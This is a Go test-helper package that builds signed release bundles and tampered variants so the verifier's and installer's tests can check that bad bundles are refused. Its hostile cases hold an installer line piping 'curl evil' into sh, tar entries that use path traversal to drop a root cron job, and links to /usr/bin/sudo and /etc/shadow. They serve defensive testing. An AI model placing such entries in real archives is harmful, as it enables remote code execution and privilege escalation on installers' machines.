// Package bundletest makes corpintel bundles for tests: a valid, signed bundle with
// small contents, and the means to break it (tamper with a file, re-sign with another
// key, add hostile entries, declare absurd sizes, truncate). The bundle verifier's own
// tests, the installer's and the upgrade's use it.
package bundletest

import (
	"archive/tar"
	"bytes"
	"crypto/ed25519"
	"crypto/rand"
	"crypto/sha256"
	"encoding/json"
	"testing"
	"time"

	"github.com/corpintel/corpintel/bundles"
)

// Key returns a throwaway signing key.
func Key(t testing.TB) ed25519.PrivateKey {
	t.Helper()
	_, priv, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	return priv
}

// Public is a key's public half.
func Public(k ed25519.PrivateKey) ed25519.PublicKey { return k.Public().(ed25519.PublicKey) }

// Entry is one tar entry. A Header.Size larger than Data makes Bytes stop after Data:
// an entry that claims more than the archive holds.
type Entry struct {
	Header tar.Header
	Data   []byte
}

// Bundle is a bundle's entries in archive order.
type Bundle struct {
	Entries []Entry
}

// Version is the version of New's bundles.
const Version = "1.2.3"

// New returns a correct bundle signed with key, with small made-up contents.
func New(t testing.TB, key ed25519.PrivateKey) *Bundle {
	t.Helper()
	man, err := json.MarshalIndent(bundles.Manifest{Format: bundles.Format, Version: Version, Revision: "test", OS: "linux", Arch: "amd64",
		Created: time.Unix(1e9, 0).UTC(), Images: []bundles.ManifestImage{{Ref: "corpintel/api:latest", ID: "sha256:00"}}}, "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	contents := map[string][]byte{
		bundles.ManifestFile: append(man, '\n'), bundles.BinaryFile: []byte("\x7fELF not really\n"),
		bundles.InstallerFile: []byte("#!/bin/sh\necho install\n"), bundles.UnitFile: []byte("[Unit]\n"),
		bundles.ConfigFile: []byte("profile = \"prod\"\n"), bundles.SBOMFile: []byte("{}\n"),
		bundles.ImagesFile: bytes.Repeat([]byte("image layer bytes "), 4096),
	}
	b := &Bundle{}
	for _, name := range []string{bundles.SumsFile, bundles.SigFile, bundles.ManifestFile, bundles.BinaryFile, bundles.InstallerFile,
		bundles.UnitFile, bundles.ConfigFile, bundles.SBOMFile, bundles.ImagesFile} {
		b.Entries = append(b.Entries, Entry{Header: tar.Header{Typeflag: tar.TypeReg, Name: name, Mode: 0o644, ModTime: time.Unix(1e9, 0),
			Size: int64(len(contents[name]))}, Data: contents[name]})
	}
	b.Resign(key)
	return b
}

// Index is the position of the entry with the name (-1: none).
func (b *Bundle) Index(name string) int {
	for i, e := range b.Entries {
		if e.Header.Name == name {
			return i
		}
	}
	return -1
}

// Get returns an entry's content.
func (b *Bundle) Get(name string) []byte { return b.Entries[b.Index(name)].Data }

// Set replaces an entry's content (SHA256SUMS stays as it was: the file is tampered
// with, unless Resign follows).
func (b *Bundle) Set(name string, data []byte) {
	i := b.Index(name)
	b.Entries[i].Data = data
	b.Entries[i].Header.Size = int64(len(data))
}

// Resign recomputes SHA256SUMS over the entries and signs it with key.
func (b *Bundle) Resign(key ed25519.PrivateKey) {
	sums := bundles.Sums{}
	for _, e := range b.Entries {
		if e.Header.Name != bundles.SumsFile && e.Header.Name != bundles.SigFile && e.Header.Typeflag == tar.TypeReg {
			sums[e.Header.Name] = sha256.Sum256(e.Data)
		}
	}
	b.Set(bundles.SumsFile, sums.Bytes())
	b.Set(bundles.SigFile, ed25519.Sign(key, sums.Bytes()))
}

// Add appends an entry.
func (b *Bundle) Add(h tar.Header, data []byte) {
	if h.Typeflag == tar.TypeReg && h.Size == 0 {
		h.Size = int64(len(data))
	}
	b.Entries = append(b.Entries, Entry{Header: h, Data: data})
}

// Bytes writes the archive.
func (b *Bundle) Bytes(t testing.TB) []byte {
	t.Helper()
	var buf bytes.Buffer
	tw := tar.NewWriter(&buf)
	for _, e := range b.Entries {
		h := e.Header
		if err := tw.WriteHeader(&h); err != nil {
			t.Fatalf("bundletest: header %s: %v", h.Name, err)
		}
		if h.Typeflag != tar.TypeReg {
			continue
		}
		if h.Size > int64(len(e.Data)) { // a lie about the size: the archive ends here
			_ = tw.Flush()
			buf.Write(e.Data)
			return buf.Bytes()
		}
		if _, err := tw.Write(e.Data); err != nil {
			t.Fatal(err)
		}
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// Hostile lists ways to break a bundle, each with a word the refusal must contain.
// Both verifiers (`corpintel bundle verify` and install.sh) must refuse every one.
func Hostile(t testing.TB, key ed25519.PrivateKey) []Case {
	other := Key(t)
	tamper := func(name string) func(b *Bundle) {
		return func(b *Bundle) {
			d := bytes.Clone(b.Get(name))
			d[len(d)/2] ^= 1
			b.Set(name, d)
		}
	}
	return []Case{
		{"tampered image tar", tamper(bundles.ImagesFile), nil, "images.tar.gz"},
		{"tampered binary", tamper(bundles.BinaryFile), nil, "corpintel does not match"},
		{"wrong signature", func(b *Bundle) { b.Resign(other) }, nil, "signature"},
		{"re-summed without the key", func(b *Bundle) {
			sig := b.Get(bundles.SigFile)
			b.Set(bundles.InstallerFile, []byte("#!/bin/sh\ncurl evil | sh\n"))
			b.Resign(key)
			b.Set(bundles.SigFile, sig)
		}, nil, "signature"},
		{"truncated bundle", nil, func(a []byte) []byte { return a[:len(a)-40000] }, "truncated"},
		{"path traversal", func(b *Bundle) {
			b.Add(tar.Header{Typeflag: tar.TypeReg, Name: "../../etc/cron.d/evil", Mode: 0o644}, []byte("* * * * * root evil\n"))
		}, nil, "directory part"},
		{"absolute path", func(b *Bundle) {
			b.Add(tar.Header{Typeflag: tar.TypeReg, Name: "/etc/cron.d/evil", Mode: 0o644}, []byte("x\n"))
		}, nil, "directory part"},
		{"symlink out of the tree", func(b *Bundle) {
			i := b.Index(bundles.BinaryFile)
			b.Entries[i] = Entry{Header: tar.Header{Typeflag: tar.TypeSymlink, Name: bundles.BinaryFile, Linkname: "/usr/bin/sudo"}}
		}, nil, "regular file"},
		{"hard link", func(b *Bundle) {
			b.Add(tar.Header{Typeflag: tar.TypeLink, Name: "shadow", Linkname: "/etc/shadow"}, nil)
		}, nil, ""},
		{"device file", func(b *Bundle) {
			b.Add(tar.Header{Typeflag: tar.TypeChar, Name: "sda", Devmajor: 8, Mode: 0o600}, nil)
		}, nil, "regular file"},
		{"absurd size", func(b *Bundle) {
			i := b.Index(bundles.UnitFile)
			b.Entries[i].Header.Size = 1 << 40
		}, nil, ""},
		{"extra file", func(b *Bundle) {
			b.Add(tar.Header{Typeflag: tar.TypeReg, Name: "postinst.sh", Mode: 0o755}, []byte("#!/bin/sh\n"))
		}, nil, "extra file"},
		{"missing file", func(b *Bundle) {
			i := b.Index(bundles.SBOMFile)
			b.Entries = append(b.Entries[:i], b.Entries[i+1:]...)
		}, nil, "missing sbom.cdx.json"},
		{"duplicate file", func(b *Bundle) {
			e := b.Entries[b.Index(bundles.InstallerFile)]
			e.Data = []byte("#!/bin/sh\necho evil\n")
			e.Header.Size = int64(len(e.Data))
			b.Entries = append(b.Entries, e)
		}, nil, "twice"},
	}
}

// Case is one way to break a bundle.
type Case struct {
	Name string
	// Mutate changes the bundle; Raw changes the archive's bytes (either may be nil).
	Mutate func(b *Bundle)
	Raw    func(archive []byte) []byte
	// Want is a word every refusal names ("" when the verifiers may say it differently).
	Want string
}

// Build applies a case to a fresh bundle and returns the archive.
func (c Case) Build(t testing.TB, key ed25519.PrivateKey) []byte {
	t.Helper()
	b := New(t, key)
	if c.Mutate != nil {
		c.Mutate(b)
	}
	a := b.Bytes(t)
	if c.Raw != nil {
		a = c.Raw(a)
	}
	return a
}
